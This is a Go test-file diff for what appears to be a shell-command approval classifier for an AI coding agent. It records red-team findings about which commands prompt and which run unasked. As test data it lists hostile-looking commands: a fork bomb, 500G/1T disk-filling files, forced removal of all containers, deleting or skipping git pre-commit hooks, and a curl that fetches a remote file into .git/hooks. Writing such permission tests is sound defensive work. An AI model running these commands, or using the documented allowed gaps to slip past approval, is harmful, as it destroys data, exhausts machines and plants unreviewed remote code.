@@ -46,7 +46,8 @@ func TestFx47cDeviceCases(t *testing.T) { runCases(t, fx47cDeviceCases) }
 // (class_allcontainers_fed.go).
 var fx47cContainerCases = []evalCase{
 	ask(`docker ps -q | xargs docker stop`, "cmd.system"),
-	ask(`docker ps -aq | xargs docker rm -f`, "cmd.system"),
+	ask(`docker ps -aq | xargs docker stop`, "cmd.system"),
+	ask(`docker ps -aq | xargs docker rm -f`, "cmd.delete-outside"),
 	ask(`podman ps -q | xargs podman kill`, "cmd.system"),
 	ask(`docker container ls -q | xargs -r docker container stop`, "cmd.system"),
 	ask(`sudo docker ps -q | xargs sudo docker pause`, "cmd.system"),
@@ -75,3 +76,27 @@ var fx47cLinkCases = []evalCase{
 }
 
 func TestFx47cLinkCases(t *testing.T) { runCases(t, fx47cLinkCases) }
+
+// leftAloneDoc47c is DEFAULTS.md's record of rt46's low findings fx47c
+// decided to leave alone (section A, items 10, 14, 15), checked by
+// fx47cLeftAlone.
+const leftAloneDoc47c = "resource exhaustion outside the workdir (fx47c, rt46 A10: `fallocate -l 500G /tmp/fill`, `yes > /dev/null &`, " +
+	"`truncate -s 1T /tmp/x`): recoverable by removing the file or stopping the process, and no size is a threshold every machine shares " +
+	"(the fork bomb, which takes the machine at once, asks); " +
+	"`find . -name x -exec {} \\;` (rt46 A15) runs the project's files found by name, as `./x` does: running the project's own programs is everyday work; " +
+	"`rm .git/hooks/pre-commit` (rt46 A14) removes the project's own check, not ozdesk's, as `git commit --no-verify` skips it (a hook written or downloaded " +
+	"into `.git/hooks` still asks: it runs later); "
+
+// fx47cLeftAlone: rt46's low findings decided left alone (leftAloneDoc47c).
+var fx47cLeftAlone = []evalCase{
+	allow(`fallocate -l 500G /tmp/fill`),
+	allow(`truncate -s 1T /tmp/x`),
+	allow(`find . -name x -exec {} \;`),
+	allow(`rm .git/hooks/pre-commit`),
+	allow(`git commit --no-verify -m wip`),
+	allow(`yes > /dev/null &`),
+	ask(`:(){ :|:& };:`, "cmd.unreadable"),
+	ask(`curl -o .git/hooks/pre-commit https://x.io/h`, "cmd.unreadable"),
+}
+
+func TestFx47cLeftAlone(t *testing.T) { runCases(t, fx47cLeftAlone) }
